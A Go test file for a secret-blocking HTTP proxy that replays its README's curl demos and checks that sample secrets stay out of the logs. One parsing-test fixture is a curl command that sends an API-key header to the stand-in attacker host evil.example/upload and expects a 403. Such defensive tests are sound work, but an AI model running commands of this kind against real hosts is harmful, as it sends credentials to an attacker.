package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"runtime"
	"strings"
	"testing"

	"github.com/secretgate/secretgate/plugin/plugintest"
)

// TestEchoDemoFromREADME runs the demo of the README's "Start here" as the
// README writes it: the proxy flags from `make run ARGS=...`, then each
// console block's curl command, sent as that curl sends it, its output
// compared with the block's (a "Date: ..." line matches any date), and the
// plain block's lines looked for in the proxy's log. Edit the README and the
// test follows; change what the proxy does and it fails.
func TestEchoDemoFromREADME(t *testing.T) {
	section := readmeSection(t, "Start here")
	blocks := readmeBlocks(section)
	m := regexp.MustCompile("(?m)^make run ARGS=(\\S+)").FindStringSubmatch(section)
	if m == nil {
		t.Fatal("README Start here: no `make run ARGS=...` line")
	}
	// As `make run` starts it, with the test build of the module.
	p := startProxy(t, append([]string{"-envoy", shippedEnvoyYAML(), "-wasm", plugintest.WasmPath(t)}, strings.Fields(m[1])...)...)
	values := readmeSampleValues(t)

	var demos []readmeDemo
	for _, b := range blocks {
		if b.info == "console" {
			demos = append(demos, parseReadmeDemo(t, b.lines))
		}
	}
	if len(demos) != 3 {
		t.Fatalf("README Start here has %d console blocks, want the 3 the README says this test runs", len(demos))
	}
	userAgent := readmeUserAgent(t, demos)
	for _, d := range demos {
		got := d.run(t, p.url.Host, userAgent)
		if !readmeOutputMatches(got, d.output) {
			t.Errorf("%s\ngot:\n%s\nREADME shows:\n%s", d.command,
				redact(got, values), redact(strings.Join(d.output, "\n"), values))
		}
	}

	logs := p.logs.String()
	for _, v := range values {
		if strings.Contains(logs, v) {
			t.Error("a sample value reached the proxy's logs")
		}
	}
	var logLines int
	for _, b := range blocks {
		if b.info != "" {
			continue
		}
		for _, line := range b.lines {
			logLines++
			if !strings.Contains(logs, line+"\n") {
				t.Errorf("the proxy's log lacks the README's line %q", line)
			}
		}
	}
	if logLines == 0 {
		t.Error("README Start here: no plain block with the proxy's log")
	}
}

// readmeSection returns the body of the README's "## name" section.
func readmeSection(t *testing.T, name string) string {
	t.Helper()
	_, file, _, _ := runtime.Caller(0)
	data, err := os.ReadFile(filepath.Join(filepath.Dir(file), "..", "..", "..", "README.md"))
	if err != nil {
		t.Fatal(err)
	}
	_, rest, ok := strings.Cut(string(data), "\n## "+name+"\n")
	if !ok {
		t.Fatalf("README.md has no section %q", name)
	}
	section, _, _ := strings.Cut(rest, "\n## ")
	return section
}

type readmeBlock struct {
	info  string // what follows the opening fence: "console", "sh", or ""
	lines []string
}

// readmeBlocks returns the fenced code blocks of a Markdown text.
func readmeBlocks(text string) []readmeBlock {
	var blocks []readmeBlock
	var open *readmeBlock
	for _, line := range strings.Split(text, "\n") {
		switch {
		case open == nil && strings.HasPrefix(line, "```"):
			open = &readmeBlock{info: strings.TrimPrefix(line, "```")}
		case open != nil && line == "```":
			blocks = append(blocks, *open)
			open = nil
		case open != nil:
			open.lines = append(open.lines, line)
		}
	}
	return blocks
}

// readmeDemo is one console block: a curl command through the proxy and
// what it prints.
type readmeDemo struct {
	command string
	target  string   // the URL
	headers []string // -H values, in order
	include bool     // -i: print the status line and headers too
	output  []string
}

func parseReadmeDemo(t *testing.T, lines []string) readmeDemo {
	t.Helper()
	if len(lines) == 0 || !strings.HasPrefix(lines[0], "$ ") {
		t.Fatalf("README console block %q does not start with a $ command", lines)
	}
	command := strings.TrimPrefix(lines[0], "$ ")
	lines = lines[1:]
	for strings.HasSuffix(command, "\\") && len(lines) > 0 {
		command = strings.TrimSuffix(command, "\\") + strings.TrimSpace(lines[0])
		lines = lines[1:]
	}
	d := readmeDemo{command: command, output: lines}
	words := shellWords(t, command)
	if len(words) == 0 || words[0] != "curl" {
		t.Fatalf("README console command %q is not a curl command", command)
	}
	for i := 1; i < len(words); i++ {
		switch w := words[i]; {
		case w == "-s":
		case w == "-i":
			d.include = true
		case (w == "-x" || w == "-H") && i+1 < len(words):
			i++
			if w == "-H" {
				d.headers = append(d.headers, words[i])
			} else if words[i] != "http://"+defaultListen {
				t.Errorf("README command %q: proxy %q is not the default listen address %s", command, words[i], defaultListen)
			}
		case !strings.HasPrefix(w, "-") && d.target == "":
			d.target = w
		default:
			t.Fatalf("README command %q: %q is not an argument this test knows", command, w)
		}
	}
	if d.target == "" {
		t.Fatalf("README command %q has no URL", command)
	}
	return d
}

// shellWords splits a command line as sh does, for the quoting the README
// uses: single quotes, double quotes without escapes, and spaces.
func shellWords(t *testing.T, line string) []string {
	t.Helper()
	var words []string
	var word strings.Builder
	inWord := false
	for i := 0; i < len(line); i++ {
		switch c := line[i]; c {
		case ' ', '\t':
			if inWord {
				words = append(words, word.String())
				word.Reset()
				inWord = false
			}
		case '\'', '"':
			end := strings.IndexByte(line[i+1:], c)
			if end < 0 {
				t.Fatalf("README command %q: unterminated quote", line)
			}
			word.WriteString(line[i+1 : i+1+end])
			i += end + 1
			inWord = true
		default:
			word.WriteByte(c)
			inWord = true
		}
	}
	if inWord {
		words = append(words, word.String())
	}
	return words
}

// readmeUserAgent is the one curl user-agent the README's echoes show: the
// test sends it, so that the README's output stays what curl prints.
func readmeUserAgent(t *testing.T, demos []readmeDemo) string {
	t.Helper()
	found := map[string]bool{}
	for _, d := range demos {
		for _, line := range d.output {
			if ua, ok := strings.CutPrefix(line, "user-agent: "); ok {
				found[ua] = true
			}
		}
	}
	if len(found) != 1 {
		t.Fatalf("README Start here shows user-agents %v; want exactly one", found)
	}
	for ua := range found {
		return ua
	}
	return ""
}

// run sends the request as curl does through an HTTP proxy (absolute-form;
// Host, User-Agent, Accept and Proxy-Connection, then each -H, replacing a
// default of the same name) and returns what curl prints: the body, after the
// status line and headers with -i.
func (d readmeDemo) run(t *testing.T, proxyAddr, userAgent string) string {
	t.Helper()
	u, err := url.Parse(d.target)
	if err != nil {
		t.Fatal(err)
	}
	headers := []string{"Host: " + u.Host, "User-Agent: " + userAgent, "Accept: */*", "Proxy-Connection: Keep-Alive"}
	for _, h := range d.headers {
		name, _, _ := strings.Cut(h, ":")
		for i, def := range headers {
			if def != "" && strings.EqualFold(strings.SplitN(def, ":", 2)[0], name) {
				headers[i] = ""
			}
		}
		headers = append(headers, h)
	}
	var req strings.Builder
	req.WriteString("GET " + d.target + " HTTP/1.1\r\n")
	for _, h := range headers {
		if h != "" {
			req.WriteString(h + "\r\n")
		}
	}
	req.WriteString("\r\n")

	conn, err := net.Dial("tcp", proxyAddr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := io.WriteString(conn, req.String()); err != nil {
		t.Fatal(err)
	}
	// Everything read from the connection is the one response.
	var raw bytes.Buffer
	resp, err := http.ReadResponse(bufio.NewReader(io.TeeReader(conn, &raw)), nil)
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	if !d.include {
		return string(body)
	}
	head, _, ok := bytes.Cut(raw.Bytes(), []byte("\r\n\r\n"))
	if !ok {
		t.Fatalf("response %q has no end of headers", raw.Bytes())
	}
	return strings.ReplaceAll(string(head), "\r\n", "\n") + "\n\n" + string(body)
}

// readmeOutputMatches compares curl's output with a README block's lines,
// where "Date: ..." stands for any valid date. The terminal shows the same
// lines whether or not the output ends in a newline.
func readmeOutputMatches(got string, want []string) bool {
	gotLines := strings.Split(strings.TrimSuffix(got, "\n"), "\n")
	if len(gotLines) != len(want) {
		return false
	}
	for i, w := range want {
		if w == "Date: ..." {
			date, ok := strings.CutPrefix(gotLines[i], "Date: ")
			if _, err := http.ParseTime(date); !ok || err != nil {
				return false
			}
		} else if gotLines[i] != w {
			return false
		}
	}
	return true
}

// readmeSampleValues returns the secret values of the shipped envoy.yaml's
// sample session, to keep them out of logs and failure messages.
func readmeSampleValues(t *testing.T) []string {
	t.Helper()
	cfg, _, err := loadEnvoyConfig(shippedEnvoyYAML())
	if err != nil {
		t.Fatal(err)
	}
	var session struct {
		Secrets map[string]struct{ Value string }
	}
	if err := json.Unmarshal(cfg.Configuration, &session); err != nil {
		t.Fatal(err)
	}
	var values []string
	for _, s := range session.Secrets {
		if s.Value != "" {
			values = append(values, s.Value)
		}
	}
	if len(values) == 0 {
		t.Fatal("the shipped envoy.yaml has no sample values")
	}
	return values
}

// redact hides secret values in text for failure messages.
func redact(text string, values []string) string {
	for _, v := range values {
		text = strings.ReplaceAll(text, v, "<value>")
	}
	return text
}

// The README test's own parts, on blocks that drift from what the proxy does.
func TestReadmeDemoParsing(t *testing.T) {
	d := parseReadmeDemo(t, []string{
		`$ curl -s -i -x http://127.0.0.1:10000 http://evil.example/upload \`,
		`    -H 'X-Api-Key: a b' -H "Accept: text/plain"`,
		"HTTP/1.1 403 Forbidden",
		"Date: ...",
		"",
		"{}",
	})
	want := readmeDemo{
		command: `curl -s -i -x http://127.0.0.1:10000 http://evil.example/upload -H 'X-Api-Key: a b' -H "Accept: text/plain"`,
		target:  "http://evil.example/upload",
		headers: []string{"X-Api-Key: a b", "Accept: text/plain"},
		include: true,
		output:  []string{"HTTP/1.1 403 Forbidden", "Date: ...", "", "{}"},
	}
	if !reflect.DeepEqual(d, want) {
		t.Errorf("parsed\n%+v\nwant\n%+v", d, want)
	}
	for got, match := range map[string]bool{
		"HTTP/1.1 403 Forbidden\nDate: Thu, 03 Dec 2026 19:54:51 GMT\n\n{}":   true,
		"HTTP/1.1 403 Forbidden\nDate: Thu, 03 Dec 2026 19:54:51 GMT\n\n{}\n": true,
		"HTTP/1.1 403 Forbidden\nDate: yesterday\n\n{}":                       false,
		"HTTP/1.1 403 Forbidden\nServer: x\n\n{}":                             false,
		"HTTP/1.1 403 Forbidden\nDate: Thu, 03 Dec 2026 19:54:51 GMT\n\n{} ":  false,
		"HTTP/1.1 403 Forbidden\nDate: Thu, 03 Dec 2026 19:54:51 GMT\n{}":     false,
	} {
		if readmeOutputMatches(got, want.output) != match {
			t.Errorf("readmeOutputMatches(%q) = %v, want %v", got, !match, match)
		}
	}
}
